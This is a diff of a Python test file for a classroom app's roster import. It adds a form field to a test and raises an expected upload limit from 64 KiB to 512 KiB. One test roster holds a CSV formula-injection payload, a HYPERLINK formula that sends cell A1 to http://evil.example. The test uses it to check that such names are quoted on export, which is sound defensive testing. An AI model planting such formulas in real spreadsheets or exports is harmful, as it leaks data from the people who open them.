@@ -941,7 +941,8 @@ def test_a_roster_real_name_read_as_a_formula_is_quoted_in_the_logins_csv(
     _class_with_teacher_student(store)
     tess = logged_in(app, "tess")
     roster = '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n-2+3\nAda Lovelace\n'
-    data = {"csrf_token": csrf_token(tess, "/classes/maths/roster"), "text": roster}
+    data = {"csrf_token": csrf_token(tess, "/classes/maths/roster"), "text": roster,
+            "action": "import"}  # fmt: skip
     page = tess.post("/classes/maths/roster", data=data).get_data(as_text=True)
     found = re.search(r'name="csv" value="([^"]*)"', page)
     assert found, "no CSV on the logins page"
@@ -1012,7 +1013,7 @@ def test_a_roster_file_past_the_request_limit_is_told_about_rosters(
     )
     assert refused.status_code == 413
     text = refused.get_data(as_text=True)
-    assert "a roster file is at most 64 KiB" in text and "Python file" not in text
+    assert "a roster file is at most 512 KiB" in text and "Python file" not in text
 
 
 @pytest.mark.backends("sqlite", "postgresql")  # PostgreSQL's text refuses NUL
